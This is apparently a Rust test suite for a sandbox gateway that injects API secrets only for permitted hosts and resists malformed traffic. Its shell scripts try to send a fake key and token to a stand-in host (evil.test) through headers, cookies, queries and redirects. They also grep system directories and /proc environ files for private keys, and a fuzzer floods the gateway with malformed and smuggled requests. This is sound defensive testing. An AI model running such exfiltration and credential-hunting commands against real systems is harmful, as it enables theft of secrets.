//! Section K: what the gateway puts in, and that it cannot be brought down.

use std::os::unix::process::CommandExt as _;
use std::time::Duration;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;

use super::case::{Action, Case, ONE, OWNER, Open, Verdict};
use super::d::sessions::peak;
use super::d::{NETWORK, nobody_else};
use super::scene::{Scene, no_canary};
use super::stage::Stage;
use super::world::World;
use crate::network::web::{Asked, Scheme};
use crate::sandbox::{wait, within};

/// One goes along by itself; the other takes the place of what stands for it.
const KEY: &str = "sk-ant-api03-Zz9Yy8Xx7Ww6Vv5-Uu4_Tt3";
const TOKEN: &str = "ghp_0123456789abcdefABCDEF";

const RULES: &str = "env {
    secret API_KEY host=api.test from=\"file:~/key\" header=\"x-api-key\"
    secret CODE_TOKEN host=code.test from=\"file:~/token\" methods=GET
}
network allowlist {
    allow \"*.wide.test\" allowed.test
    allow api.test paths=\"/v1/*\"
    allow api.test paths=\"/away\"
    allow api.test paths=\"/switch\"
    allow api.test paths=\"/stream\"
    allow api.test paths=\"/trailers\"
    allow api.test port=8080
    allow code.test
}\n";

fn keys(world: &World) {
    world.write("home/key", KEY);
    world.write("home/token", TOKEN);
}

/// What an agent has in its hands: outside, that is the secret itself.
macro_rules! with_keys {
    ($script:expr) => {
        concat!(
            "K=${API_KEY:-$(cat ~/key)}; T=${CODE_TOKEN:-$(cat ~/token)}; c() { curl -sSk -m 4 \"$@\"; }; cd /tmp\n",
            $script,
            "\ntrue"
        )
    };
}

/// Whether something of a request holds a text, also in base64.
fn holds(asked: &Asked, text: &str) -> bool {
    let decoded = asked.header("authorization").and_then(|value| {
        let bytes = BASE64_STANDARD.decode(value.strip_prefix("Basic ")?).ok()?;
        String::from_utf8(bytes).ok()
    });
    let values = asked.headers.iter().map(|(_, value)| value.as_str());
    values
        .chain([asked.line.as_str(), &String::from_utf8_lossy(&asked.start)])
        .chain(decoded.as_deref())
        .any(|part| part.contains(text))
}

/// Each secret arrived where it belongs, and in no other request.
fn only_where_it_belongs(scene: &Scene<'_>) -> Verdict {
    let asked = scene.stage.internet().web.take();
    let to = |asked: &Asked, host: &str| asked.host == host && asked.scheme == Scheme::Https;
    let key_belongs = |asked: &Asked| {
        to(asked, "api.test")
            && asked.header("x-api-key") == Some(KEY)
            && [" /v1/", " /away?"].iter().any(|path| asked.line.contains(path))
    };
    let token_belongs = |asked: &Asked| to(asked, "code.test") && asked.line.starts_with("GET /");
    let wrong = asked.iter().find(|asked| {
        let start = String::from_utf8_lossy(&asked.start);
        (holds(asked, KEY) && !key_belongs(asked))
            || (holds(asked, TOKEN) && !token_belongs(asked))
            || start.contains(KEY)
            || start.contains(TOKEN)
    });
    let said = wrong.map(|asked| format!("`{}` of {} held a secret", asked.line, asked.host));
    let right = [KEY, TOKEN].map(|secret| asked.iter().any(|asked| holds(asked, secret)));
    let printed = [KEY, TOKEN].iter().any(|secret| scene.ran.said(secret));
    nobody_else(scene)
        .and(|| Verdict::open_if(said.is_some(), said.unwrap_or_default()))
        .and(|| Verdict::open_if(printed, "a secret was seen inside"))
        .and(|| Verdict::open_if(right != [true, true], format!("arrived where they belong: {right:?}")))
}

pub const CASES: &[Case] = &[
    Case {
        id: "K3",
        tries: "a secret for another host, port, method or path than its own, or behind a redirection",
        config: RULES,
        prepare: keys,
        action: Action::Script(
            with_keys!(
                "c https://api.test/v1/a; c https://code.test/a -H \"Authorization: Bearer $T\"
                for u in http://api.test/v1/a https://api.test/v2/a https://api.test/ https://x.wide.test/ https://allowed.test/ \
                        http://allowed.test/ https://evil.test/ https://code.test/b http://code.test/ http://api.test:8080/v1/a; do
                    c $u & c $u -H \"x-api-key: $K\" & c --http1.1 $u -H \"x-api-key: $K\" & done; wait
                c -X POST https://code.test/c -H \"Authorization: Bearer $T\"; c -X DELETE \"https://code.test/c?t=$T\"
                for to in https://allowed.test/got https://x.wide.test/ http://api.test/ https://evil.test/; do
                    c -L \"https://api.test/away?$to\" -H \"x-api-key: $K\" &
                    c -L --location-trusted \"https://code.test/away?$to\" -H \"Authorization: Bearer $T\" & done; wait"
            ),
            only_where_it_belongs,
        ),
        columns: ONE,
        ..NETWORK
    },
    Case {
        id: "K4",
        tries: "the session's authority: its key, and certificates that the host believes",
        config: RULES,
        prepare: |world| {
            keys(world);
            world.write("home/authority.key", "-----BEGIN PRIVATE KEY-----\n");
        },
        action: Action::Script(
            "mkdir -p $W/out; for host in api.test evil.test allowed.test; do
                timeout 4 openssl s_client -connect $host:443 -servername $host -showcerts </dev/null 2>/dev/null >$W/out/$host.pem
            done
            places=\"$HOME $W\"; [ -n \"$OPEN\" ] || places=\"$places /etc /home /root /tmp /var /run /dev/shm /.pier\"
            grep -rlsI -e 'BEGIN [A-Z ]*PRIVATE KEY' $places | grep -v /tools/probe | sed 's/^/OPEN: a key in /'
            grep -ls 'PRIVATE KEY' /proc/self/environ | sed 's/^/OPEN: a key in /'; true",
            authority,
        ),
        columns: OWNER,
        ..NETWORK
    },
    Case {
        id: "K5",
        tries: "one secret by way of the other's host",
        config: RULES,
        prepare: keys,
        action: Action::Script(
            with_keys!(
                "c https://api.test/v1/a; c https://code.test/a -H \"Authorization: Bearer $T\"
                for secret in $K $T; do for u in https://api.test/v1/a https://code.test/a https://allowed.test/a; do
                    [ \"$secret $u\" = \"$T https://code.test/a\" ] && continue
                    c $u -H \"Authorization: Bearer $secret\" & c $u -u me:$secret & c $u -H \"X-Other: $secret\" &
                    c $u -H \"Cookie: a=$secret\" & c \"$u?a=$secret\" & c $u/$secret & c $u -d \"a=$secret\" &
                done; done; wait"
            ),
            only_where_it_belongs,
        ),
        columns: ONE,
        ..NETWORK
    },
    Case {
        id: "K6",
        tries: "nothing: events, a web socket, trailers and 100 MB up, with a secret put in",
        config: RULES,
        prepare: keys,
        action: Action::Steps(streams),
        columns: ONE,
        open: Open::Not("works without a sandbox: this case says that the gateway keeps what it passes on as it is"),
        ..NETWORK
    },
    Case {
        id: "K7",
        tries: "the long-lived token from which the host makes the one that goes along",
        config: "env { secret API_KEY host=api.test from=\"cmd:cut -d' ' -f1 ~/sign-in\" header=\"x-api-key\"; }
network allowlist { allow api.test; }\n",
        prepare: |world| world.write("home/sign-in", &format!("{TOKEN} {}\n", world.canary)),
        action: Action::Script(
            "cat ~/sign-in /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'; env
            curl -sSk -m 4 https://api.test/v1/a -H \"x-api-key: $(cut -d' ' -f2 ~/sign-in)\"; true",
            |scene| {
                let asked = scene.stage.internet().web.take();
                let leaked = asked.iter().any(|asked| holds(asked, &scene.stage.world.canary));
                let arrived = asked.iter().any(|asked| holds(asked, TOKEN));
                no_canary(scene)
                    .and(|| Verdict::open_if(leaked, "it was sent"))
                    .and(|| Verdict::open_if(scene.ran.said(TOKEN), "what goes along was seen inside"))
                    .and(|| Verdict::open_if(!arrived, format!("nothing went along: {asked:?}")))
                    .and(|| nobody_else(scene))
            },
        ),
        columns: OWNER,
        ..NETWORK
    },
    Case {
        id: "K8",
        tries: "thousands of pieces that are malformed, at every door of the gateway (more are tried by fuzzing)",
        config: RULES,
        prepare: keys,
        action: Action::Script(BARRAGE, |scene| {
            let asked = scene.stage.internet().web.take();
            let lives = asked.iter().any(|asked| asked.line.starts_with("GET /alive "));
            nobody_else(scene)
                .and(|| Verdict::open_if(!scene.ran.out.contains("@tried"), scene.ran.short()))
                .and(|| Verdict::open_if(!lives, format!("nothing goes through afterwards: {}", scene.ran.short())))
                .and(|| Verdict::open_if(scene.ran.code != Some(0), scene.ran.short()))
        }),
        columns: ONE,
        ..NETWORK
    },
];

fn authority(scene: &Scene<'_>) -> Verdict {
    let stage = scene.stage;
    let verify = |name: &str| {
        let bundle = stage.world.base().join("net/bundle.pem").display().to_string();
        stage.host(&["openssl", "verify", "-CAfile", &bundle, &format!("out/{name}.pem")]).code == Some(0)
    };
    let believed: Vec<&str> = ["api.test", "evil.test"].into_iter().filter(|name| verify(name)).collect();
    let month = (31 * 24 * 60 * 60).to_string();
    let lasts = stage.host(&["openssl", "x509", "-in", "out/api.test.pem", "-noout", "-checkend", &month]);
    nobody_else(scene)
        .and(|| Verdict::open_if(!scene.ran.claims().is_empty(), scene.ran.claims().join("; ")))
        .and(|| Verdict::open_if(!believed.is_empty(), format!("the host believes {believed:?}")))
        .and(|| Verdict::open_if(lasts.code != Some(1), format!("good for months: {}", lasts.short())))
        .and(|| Verdict::open_if(!verify("allowed.test"), "what nothing is put into is not passed through"))
}

const STREAMS: &str = r#"for v in --http1.1 --http2; do
    head -c 100000000 /dev/zero | curl -sS $v -T - https://api.test/v1/upload | grep -q '^100000000 bytes' && echo @upload
    curl -sSN $v https://api.test/stream | while read -r line; do [ "$line" ] && echo "@event $(date +%s%N)"; done
    curl -sSi $v --raw -H 'TE: trailers' https://api.test/trailers | grep -ac '^.*grpc-message' | sed 's/^/@trailers /'
done
python3 - <<'E'
import socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443)), server_hostname="api.test")
s.sendall(b"GET /switch HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head: head += s.recv(1)
for word in (b"hello", b"again"):
    s.sendall(word)
    if s.recv(4096).endswith(b" " + word): print("@socket")
E
touch done; while [ ! -e stop ]; do sleep 0.1; done"#;

fn streams(stage: &Stage) -> Verdict {
    let out = stage.world.base().join("out");
    let mut command = stage.command(&["bash", "-c", STREAMS]);
    command.stdin(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    command.stdout(fs_err::File::create(&out).unwrap().into_parts().0);
    let mut child = command.process_group(0).spawn().unwrap();
    let done = stage.world.project().join("done");
    within(Duration::from_mins(1), || done.exists() || child.try_wait().unwrap().is_some());
    let most = peak(child.id());
    stage.world.write_project("stop", "");
    let status = wait(&mut child, Duration::from_secs(10));
    let said = fs_err::read_to_string(out).unwrap();
    let count = |word: &str| said.lines().filter(|line| line.starts_with(word)).count();
    let times: Vec<u64> =
        said.lines().filter_map(|line| line.strip_prefix("@event ")?.parse().ok()).collect();
    let streams = times.chunks(3).all(|of| of[of.len() - 1] - of[0] > 600_000_000);
    let asked = stage.internet().web.take();
    let filled = asked.iter().filter(|asked| asked.header("x-api-key") == Some(KEY)).count();
    Verdict::open_if(!done.exists() || status.is_none(), format!("no end: {said}"))
        .and(|| Verdict::open_if(count("@upload") != 2, format!("not all was sent: {said}")))
        .and(|| Verdict::open_if(times.len() != 6 || !streams, format!("events came late: {said}")))
        .and(|| Verdict::open_if(count("@socket") != 2, format!("the web socket: {said}")))
        .and(|| {
            Verdict::open_if(count("@trailers 1") + count("@trailers 2") != 2, format!("trailers: {said}"))
        })
        .and(|| {
            Verdict::open_if(filled != asked.len(), format!("with the secret: {filled} of {}", asked.len()))
        })
        .and(|| Verdict::open_if(most > 64 << 10, format!("pier took {most} KiB")))
}

/// What is said is known each time: the seed is.
const BARRAGE: &str = r#"python3 - <<'E'
import random, socket
chance = random.Random(7)
noise = lambda length: bytes(chance.randrange(256) for _ in range(length))
http = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
two = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + b"\xff\xff\xff\1\x25\0\0\0\1" + noise(60)
name = b"evil.test"
sni = b"\0\0" + (len(name) + 5).to_bytes(2, "big") + (len(name) + 3).to_bytes(2, "big") + b"\0" + len(name).to_bytes(2, "big") + name
body = b"\3\3" + noise(32) + b"\0\0\2\x13\1\1\0" + len(sni).to_bytes(2, "big") + sni
hello = b"\x16\3\1" + (len(body) + 4).to_bytes(2, "big") + b"\1\0" + len(body).to_bytes(2, "big") + body
socks = b"\5\1\0\5\1\0\3\x09evil.test\0\x50"
connect = b"CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
question = b"\0\7\1\0\0\1\0\0\0\0\0\0\4evil\4test\0\0\1\0\1"
def spoiled(text):
    text = bytearray(text)
    for _ in range(chance.randrange(6)):
        at = chance.randrange(len(text))
        kind = chance.randrange(4)
        if kind == 0: text[at] = chance.randrange(256)
        elif kind == 1: text[at:at + chance.randrange(9)] = b""
        elif kind == 2: text[at:at] = noise(chance.randrange(9))
        else: text[at:at] = text[:chance.randrange(99)]
        if not text: text = bytearray(b"\0")
    return bytes(text) if chance.randrange(4) else bytes(text[:chance.randrange(len(text)) + 1])
texts = [http, two, hello, socks, connect, noise(200), b"\0" * 300, b"\x16\3\1\xff\xff", b"\r\n" * 200]
doors = [("evil.test", 443), ("evil.test", 80), ("allowed.test", 443), ("allowed.test", 80), ("api.test", 443), ("127.0.0.1", 3128)]
addresses = {}
for host, _ in doors:
    addresses[host] = socket.gethostbyname(host)
held = []
for number in range(3000):
    host, port = doors[number % len(doors)]
    text = spoiled(texts[chance.randrange(len(texts))])
    # What happens to be well formed for a host that is allowed may reach it.
    try:
        s = socket.create_connection((addresses[host], port), 5)
        s.sendall(text)
        if number % 3: s.shutdown(socket.SHUT_WR)
        held.append(s)
        if len(held) > 200: held.pop(0).close()
    except OSError: pass
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(3000):
    try: udp.sendto(spoiled(question), ("127.0.0.1", 53))
    except OSError: pass
print("@tried")
E
# A question for a name may be lost in the flood of them.
for i in 1 2 3 4 5; do curl -sS -m 10 https://allowed.test/alive >/dev/null && break; done
curl -sS -m 10 http://evil.test/ | grep -q denied; true"#;
